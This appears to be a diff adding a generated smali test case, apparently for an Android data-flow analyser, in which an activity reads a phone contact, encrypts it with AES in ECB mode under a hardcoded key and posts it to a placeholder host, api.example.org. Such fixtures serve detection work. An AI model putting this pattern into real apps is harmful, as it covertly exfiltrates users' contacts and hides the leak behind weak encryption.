@@ -1,0 +1,75 @@
+# Made by tests/cases/compile.py
+.class public final Lcases/flow_cipher/Main;
+.super Landroid/app/Activity;
+
+.method public constructor <init>()V
+    .registers 1
+    invoke-direct {p0}, Landroid/app/Activity;-><init>()V
+    return-void
+.end method
+
+.method protected onCreate(Landroid/os/Bundle;)V
+    .registers 10
+    invoke-super {p0, p1}, Landroid/app/Activity;->onCreate(Landroid/os/Bundle;)V
+    invoke-virtual {p0}, Lcases/flow_cipher/Main;->getContentResolver()Landroid/content/ContentResolver;
+    move-result-object v2
+    sget-object v3, Landroid/provider/ContactsContract$CommonDataKinds$Phone;->CONTENT_URI:Landroid/net/Uri;
+    const/4 v4, 0x0
+    const/4 v5, 0x0
+    const/4 v6, 0x0
+    const/4 v7, 0x0
+    invoke-virtual/range {v2 .. v7}, Landroid/content/ContentResolver;->query(Landroid/net/Uri;[Ljava/lang/String;Ljava/lang/String;[Ljava/lang/String;Ljava/lang/String;)Landroid/database/Cursor;
+    move-result-object v0
+    invoke-interface {v0}, Landroid/database/Cursor;->moveToFirst()Z
+    :l_1b
+    const-string v2, "AES/ECB/PKCS5Padding"
+    invoke-static {v2}, Ljavax/crypto/Cipher;->getInstance(Ljava/lang/String;)Ljavax/crypto/Cipher;
+    move-result-object v1
+    const/4 v2, 0x1
+    new-instance v3, Ljavax/crypto/spec/SecretKeySpec;
+    const-string v4, "0123456789abcdef"
+    invoke-virtual {v4}, Ljava/lang/String;->getBytes()[B
+    move-result-object v4
+    const-string v5, "AES"
+    invoke-direct {v3, v4, v5}, Ljavax/crypto/spec/SecretKeySpec;-><init>([BLjava/lang/String;)V
+    invoke-virtual {v1, v2, v3}, Ljavax/crypto/Cipher;->init(ILjava/security/Key;)V
+    const/4 v2, 0x0
+    invoke-interface {v0, v2}, Landroid/database/Cursor;->getString(I)Ljava/lang/String;
+    move-result-object v2
+    invoke-virtual {v2}, Ljava/lang/String;->getBytes()[B
+    move-result-object v2
+    invoke-virtual {v1, v2}, Ljavax/crypto/Cipher;->doFinal([B)[B
+    move-result-object v2
+    invoke-static {v2}, Lcases/flow_cipher/Main;->send([B)V
+    :l_45
+    goto :l_51
+    :l_48
+    move-exception v1
+    const-string v2, "upload"
+    const-string v3, "later"
+    invoke-static {v2, v3}, Landroid/util/Log;->w(Ljava/lang/String;Ljava/lang/String;)I
+    :l_51
+    return-void
+    .catch Ljava/io/IOException; {:l_1b .. :l_45} :l_48
+    .catch Ljava/security/GeneralSecurityException; {:l_1b .. :l_45} :l_48
+.end method
+
+.method static send([B)V
+    .registers 5
+    new-instance v2, Ljava/net/URL;
+    const-string v3, "https://api.example.org/v1/contacts"
+    invoke-direct {v2, v3}, Ljava/net/URL;-><init>(Ljava/lang/String;)V
+    invoke-virtual {v2}, Ljava/net/URL;->openConnection()Ljava/net/URLConnection;
+    move-result-object v0
+    check-cast v0, Ljava/net/HttpURLConnection;
+    const/4 v2, 0x1
+    invoke-virtual {v0, v2}, Ljava/net/HttpURLConnection;->setDoOutput(Z)V
+    invoke-virtual {v0}, Ljava/net/HttpURLConnection;->getOutputStream()Ljava/io/OutputStream;
+    move-result-object v1
+    invoke-virtual {v1, p0}, Ljava/io/OutputStream;->write([B)V
+    invoke-virtual {v1}, Ljava/io/OutputStream;->close()V
+    invoke-virtual {v0}, Ljava/net/HttpURLConnection;->getInputStream()Ljava/io/InputStream;
+    move-result-object v2
+    invoke-virtual {v2}, Ljava/io/InputStream;->close()V
+    return-void
+.end method
